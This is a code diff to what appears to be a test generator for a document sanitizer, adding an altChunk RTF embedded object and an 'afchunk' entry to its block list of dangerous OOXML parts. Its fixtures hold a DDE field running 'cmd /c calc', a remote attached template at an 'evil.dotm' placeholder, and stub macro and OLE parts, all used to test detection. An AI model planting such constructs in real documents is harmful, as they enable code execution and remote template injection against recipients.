@@ -192,6 +192,7 @@ def docm():
                 '<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="embeddings/oleObject1.bin"/>'
                 '<Relationship Id="rId4" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://example.invalid/track.png" TargetMode="External"/>'
                 '<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/control" Target="activeX/activeX1.xml"/>'
+                '<Relationship Id="rId6" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="afchunk.rtf"/>'
                 '</Relationships>')
     settings_rels = (RELS_HEAD + '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://example.invalid/evil.dotm" TargetMode="External"/></Relationships>')
     document = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
@@ -205,7 +206,7 @@ def docm():
                 '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
                 '<w:p><w:fldSimple w:instr=" DDE cmd /c calc "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
                 '<w:p><w:r><w:object><o:OLEObject r:id="rId3"/></w:object></w:r></w:p>'
-                '<w:p><w:r><w:t>end</w:t></w:r></w:p>'
+                '<w:altChunk r:id="rId6"/><w:p><w:r><w:t>end</w:t></w:r></w:p>'
                 '</w:body></w:document>')
     settings = f'<?xml version="1.0" encoding="UTF-8"?><w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/></w:settings>'
     return zipbytes([
@@ -215,6 +216,7 @@ def docm():
         ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0fake vba"), ("word/vbaData.xml", "<wne:vbaSuppData xmlns:wne='x'/>"),
         ("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0fake ole"),
         ("word/activeX/activeX1.xml", "<ax:ocx xmlns:ax='x'/>"),
+        ("word/afchunk.rtf", rb"{\rtf1{\object\objemb{\*\objdata 0105}}}"),
     ])
 
 
@@ -248,7 +250,8 @@ def xlsm():
     ])
 
 
-OOXML_BAD = ["vbaProject", "vbaData", "macrosheets/", "activeX/", "embeddings/", "externalLinks/"]
+OOXML_BAD = ["vbaProject", "vbaData", "macrosheets/", "activeX/", "embeddings/", "externalLinks/",
+             "afchunk"]
 
 
 def dde_fields(xml):
@@ -633,7 +636,7 @@ def main():
     samples.append(("pdf_objstm_js", objstm_pdf(workdir), "sanitized", ["pdf.javascript"], "pdf"))
     samples += [("macro.docm", docm(), "sanitized",
                  ["ooxml.vba", "ooxml.embedded_object", "ooxml.activex", "ooxml.external_relationship",
-                  "ooxml.dde", "ooxml.macro_enabled_type"], "ooxml"),
+                  "ooxml.dde", "ooxml.macro_enabled_type", "ooxml.alt_chunk"], "ooxml"),
                 ("macro.xlsm", xlsm(), "sanitized",
                  ["ooxml.macrosheet", "ooxml.external_link", "ooxml.macro_enabled_type"], "ooxml")]
     for gen in (rtf_samples, html_samples, csv_samples, image_samples, archive_samples,
